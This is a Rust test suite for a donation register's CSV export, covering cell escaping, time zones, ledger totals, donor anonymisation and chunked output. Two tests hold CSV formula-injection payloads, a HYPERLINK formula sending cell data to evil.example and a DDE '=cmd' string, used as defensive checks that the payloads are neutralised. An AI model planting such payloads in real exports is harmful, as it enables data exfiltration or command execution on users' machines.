//! The register as a file.

use super::{Kept, behind_its_back, everything, file_of, of_days, rows_of, run};
use crate::support::{TestApp, gift, on_both_databases};
use chrono::{NaiveDate, TimeZone, Utc};
use sea_orm::{ConnectionTrait, DbBackend, Statement};
use std::collections::BTreeMap;
use wellwisher::{
    clock::start_of_day,
    donations::register,
    reports::{
        Format, export,
        export::CHUNK_BYTES,
        write::{Lines, utc},
    },
};

fn day(text: &str) -> NaiveDate {
    text.parse().unwrap()
}

fn cells(texts: &[&str]) -> String {
    let mut lines = Lines::default();
    texts.iter().for_each(|text| lines.text(text));
    lines.end();
    String::from_utf8(lines.take()).unwrap()
}

#[test]
fn no_text_can_become_a_formula() {
    for start in ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"] {
        let text = format!("{start}HYPERLINK(\"https://evil.example/?\"&A1,\"click\")");
        let line = cells(&[&text]);
        assert!(line.starts_with("\"'"), "{line:?}");
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_bytes());
        let read = reader.records().next().unwrap().unwrap();
        assert_eq!(&read[0], format!("'{text}"), "nothing else of it is changed");
    }
    assert_eq!(cells(&["a=b", "winter coats", "", "ask \"her\", please", "دری"]), "a=b,winter coats,,\"ask \"\"her\"\", please\",دری\r\n");
}

#[test]
fn numbers_stay_numbers() {
    let mut lines = Lines::default();
    lines.number("-50.00");
    lines.number(-5_000);
    lines.end();
    assert_eq!(lines.take(), b"-50.00,-5000\r\n");
}

#[test]
fn an_instant_is_written_as_rfc_3339_has_it() {
    for text in ["2026-01-31T18:05:09Z", "1999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "2024-02-29T10:00:00Z"] {
        assert_eq!(utc(text.parse::<chrono::DateTime<Utc>>().unwrap()), text);
    }
    let with_fraction = "2026-01-31T18:05:09.987654Z".parse::<chrono::DateTime<Utc>>().unwrap();
    assert_eq!(utc(with_fraction), "2026-01-31T18:05:09Z");
    let far = Utc.with_ymd_and_hms(12_026, 1, 2, 3, 4, 5).unwrap();
    assert_eq!(utc(far), far.to_rfc3339_opts(chrono::SecondsFormat::Secs, true));
}

#[test]
fn a_day_begins_at_midnight_where_the_organisation_is_or_as_soon_as_the_clocks_allow() {
    let utc = |text: &str| text.parse::<chrono::DateTime<Utc>>().unwrap();
    assert_eq!(start_of_day(chrono_tz::Asia::Kabul, day("2026-05-02")), utc("2026-05-01T19:30:00Z"));
    assert_eq!(start_of_day(chrono_tz::America::St_Johns, day("2026-05-02")), utc("2026-05-02T02:30:00Z"));
    assert_eq!(start_of_day(chrono_tz::America::St_Johns, day("2026-12-02")), utc("2026-12-02T03:30:00Z"));
    // In Lebanon and Brazil midnight itself was skipped, in Samoa a whole day.
    assert_eq!(start_of_day(chrono_tz::America::Sao_Paulo, day("2018-11-04")), utc("2018-11-04T03:00:00Z"));
    assert_eq!(start_of_day(chrono_tz::Pacific::Apia, day("2011-12-30")), start_of_day(chrono_tz::Pacific::Apia, day("2011-12-31")));
    let spring = start_of_day(chrono_tz::Europe::Berlin, day("2026-03-30")) - start_of_day(chrono_tz::Europe::Berlin, day("2026-03-29"));
    assert_eq!(spring.num_hours(), 23);
}

/// The sums of an account by currency, asked in plain SQL.
async fn sums_of(test: &TestApp, account: &str) -> BTreeMap<String, i64> {
    let db = behind_its_back(test).await;
    let backend = if test.database.is_postgres() { DbBackend::Postgres } else { DbBackend::Sqlite };
    let sql = format!(
        "select currency, cast(sum(amount_minor) as bigint) as total from ledger_entry where account = '{account}' group by currency"
    );
    let rows = db.query_all_raw(Statement::from_string(backend, sql)).await.unwrap();
    rows.iter().map(|row| (row.try_get("", "currency").unwrap(), row.try_get("", "total").unwrap())).collect()
}

on_both_databases! {
    async fn each_movement_is_one_row_and_every_column_sums_to_the_ledger(test: TestApp) {
        let campaign = test.add_campaign("winter").await;
        let item = test.add_item("bag", 10, campaign).await;
        let mut for_item = gift(5_000, "EUR");
        (for_item.campaign_id, for_item.item) = (Some(campaign), Some((item, 2)));
        test.give(&for_item).await;
        test.give(&gift(3_000, "JPY")).await;
        test.give_settled_in(&gift(10_000, "USD"), "EUR", 9_200, 307).await;
        test.start(&gift(7_700, "EUR")).await;

        let (file, manifest) = file_of(&test, &everything()).await;
        let rows = rows_of(&file);
        let kinds: Vec<&str> = rows.iter().map(|row| row["type"].as_str()).collect();
        assert_eq!(kinds, ["donation", "fee", "donation", "fee", "donation", "exchange", "fee"]);
        let numbers: Vec<i64> = rows.iter().map(|row| row["entry_no"].parse().unwrap()).collect();
        assert!(numbers.is_sorted(), "the order of the ledger: {numbers:?}");

        let mut sums: BTreeMap<(&str, &str), i64> = BTreeMap::new();
        for row in &rows {
            for column in ["gross_minor", "fee_minor", "net_minor", "exchanged_minor"] {
                *sums.entry((column, &row["currency"])).or_default() += row[column].parse::<i64>().unwrap();
            }
            let figure = |name: &str| row[name].parse::<i64>().unwrap();
            assert_eq!(figure("net_minor"), figure("gross_minor") - figure("fee_minor") + figure("exchanged_minor"));
        }
        for (account, column, sign) in [("donations", "gross_minor", -1), ("stripe_fees", "fee_minor", 1), ("stripe_clearing", "net_minor", 1)] {
            let ledger = sums_of(&test, account).await;
            for currency in ["EUR", "JPY", "USD"] {
                let expected = ledger.get(currency).copied().unwrap_or(0) * sign;
                assert_eq!(sums.get(&(column, currency)).copied().unwrap_or(0), expected, "{column} {currency}");
            }
        }
        assert_eq!(sums[&("net_minor", "USD")], 0, "what came in dollars left for euros");
        assert_eq!(sums[&("exchanged_minor", "EUR")], 9_200);
        assert_eq!(manifest.rows, rows.len() as u64);
        let eur = &manifest.totals[&"EUR".parse().unwrap()];
        assert_eq!((eur["gross"], eur["net"]), (sums[&("gross_minor", "EUR")], sums[&("net_minor", "EUR")]));
        assert_eq!(manifest.sha256, wellwisher::clock::sha256_hex(&file));

        let (first, fee) = (&rows[0], &rows[1]);
        assert_eq!((first["gross"].as_str(), first["currency"].as_str(), first["campaign"].as_str()), ("50.00", "EUR", "winter"));
        assert_eq!((first["item"].as_str(), first["fund_code"].as_str(), first["restriction"].as_str()), ("bag", "GENERAL", "without"));
        assert_eq!((first["presented_minor"].as_str(), first["settlement_currency"].as_str()), ("5000", ""));
        assert_eq!((fee["presented_minor"].as_str(), fee["settlement_currency"].as_str(), fee["gross"].as_str()), ("", "EUR", "0.00"));
        assert_eq!(first["receipt_no"], "R-2026-000001");
        assert!(fee["stripe_balance_txn"].starts_with("txn_") && first["stripe_checkout_session"].starts_with("cs_"));
        assert_eq!((rows[2]["gross"].as_str(), rows[2]["currency"].as_str()), ("3000", "JPY"), "the yen has no decimals");
        assert_eq!((rows[5]["settlement_currency"].as_str(), rows[5]["net"].as_str()), ("EUR", "-100.00"));
    }

    async fn the_same_period_gives_the_same_file_whatever_came_since(test: TestApp) {
        test.give(&gift(2_500, "EUR")).await;
        let request = of_days(everything(), "2026-05-01", "2026-05-01", chrono_tz::UTC);
        let before = file_of(&test, &request).await;
        test.wait(86_400);
        test.give(&gift(9_900, "EUR")).await;
        let after = file_of(&test, &request).await;
        assert_eq!((after.0, after.1.sha256), (before.0, before.1.sha256));
        assert_eq!(rows_of(&file_of(&test, &everything()).await.0).len(), 4);
    }

    async fn a_period_is_whole_days_of_the_zone(test: TestApp) {
        for (zone, midnight) in [(chrono_tz::Asia::Kabul, "2026-05-01T19:30:00Z"), (chrono_tz::America::St_Johns, "2026-05-03T02:30:00Z")] {
            let midnight = midnight.parse::<chrono::DateTime<Utc>>().unwrap();
            test.app.clock.set(midnight - chrono::TimeDelta::seconds(1));
            let before = test.give(&gift(1_000, "EUR")).await;
            test.app.clock.set(midnight);
            let after = test.give(&gift(2_000, "EUR")).await;
            let next = zone.from_utc_datetime(&midnight.naive_utc()).date_naive();
            let of_day = async |day: NaiveDate| {
                let request = of_days(everything(), &day.to_string(), &day.to_string(), zone);
                rows_of(&file_of(&test, &request).await.0)
            };
            let (first, second) = (of_day(next.pred_opt().unwrap()).await, of_day(next).await);
            let last_before = first.last().unwrap();
            assert_eq!((&last_before["donation_id"], &last_before["booked_date"]), (&before.id.to_string(), &next.pred_opt().unwrap().to_string()));
            assert_eq!((&second[0]["donation_id"], &second[0]["booked_date"]), (&after.id.to_string(), &next.to_string()));
        }
        let backwards = of_days(everything(), "2026-05-02", "2026-05-01", chrono_tz::UTC);
        assert!(export(&test.app, &backwards, &mut Kept::default()).await.is_err());
    }

    async fn people_are_named_only_where_asked(test: TestApp) {
        let mut given = gift(2_500, "EUR");
        (given.name, given.email) = ("=cmd|' /C calc'!A0".to_owned(), "-formula@example.org".to_owned());
        test.give(&given).await;
        given.form_token = "another-form".to_owned();
        test.give(&given).await;
        let (file, _) = file_of(&test, &everything()).await;
        assert!(!file.contains("calc") && !file.contains("example.org"), "{file}");
        let rows = rows_of(&file);
        assert_eq!(rows[0]["donor_ref"], rows[2]["donor_ref"], "one supporter has one reference");
        assert_eq!(rows[0]["donor_ref"].len(), 17);
        let mut named = everything();
        (named.asked.with_donors, named.format) = (true, Format::CsvExcel);
        let (file, _) = file_of(&test, &named).await;
        assert!(file.starts_with("\u{feff}entry_no,") && file.ends_with("\r\n"));
        let rows = rows_of(&file);
        assert_eq!((rows[0]["donor_name"].as_str(), rows[0]["donor_email"].as_str()), ("'=cmd|' /C calc'!A0", "'-formula@example.org"));
    }

    async fn a_long_register_goes_out_in_small_pieces(test: TestApp) {
        test.books_end_broken("postings were written into the ledger alone");
        const TRANSACTIONS: u64 = 12_000;
        test.give(&gift(2_500, "EUR")).await;
        let db = behind_its_back(&test).await;
        run(&db, &format!("insert into ledger_transaction (kind, source, donation_id, occurred_at, posted_at, booked_at)
            with recursive n(i) as (select 1 union all select i + 1 from n where i < {TRANSACTIONS})
            select 'donation', 'bulk:' || i, t.donation_id, t.occurred_at, t.posted_at, t.booked_at from n, ledger_transaction t where t.kind = 'donation'")).await;
        run(&db, "insert into ledger_entry (transaction_id, account, amount_minor, currency)
            select id, 'stripe_clearing', 100, 'EUR' from ledger_transaction where source like 'bulk:%'
            union all select id, 'donations', -100, 'EUR' from ledger_transaction where source like 'bulk:%'").await;
        let mut kept = Kept::default();
        let manifest = export(&test.app, &everything(), &mut kept).await.unwrap();
        assert_eq!(manifest.rows, TRANSACTIONS + 2);
        assert_eq!(manifest.totals[&"EUR".parse().unwrap()]["gross"], 2_500 + 100 * TRANSACTIONS as i64);
        let largest = kept.0.iter().map(|piece| piece.len()).max().unwrap();
        assert!(kept.0.len() > 20 && largest < CHUNK_BYTES + 4_096, "{} pieces, the largest {largest}", kept.0.len());
        assert_eq!(register::count(test.app.db.read(), &everything().asked.scope().unwrap(), None).await.unwrap(), TRANSACTIONS as i64 + 2);
        let scattered = rows_of(&String::from_utf8(kept.0.concat()).unwrap());
        let mut numbers: Vec<i64> = scattered.iter().map(|row| row["entry_no"].parse().unwrap()).collect();
        assert!(numbers.is_sorted());
        numbers.dedup();
        assert_eq!(numbers.len() as u64, TRANSACTIONS + 2, "each once");
    }
}
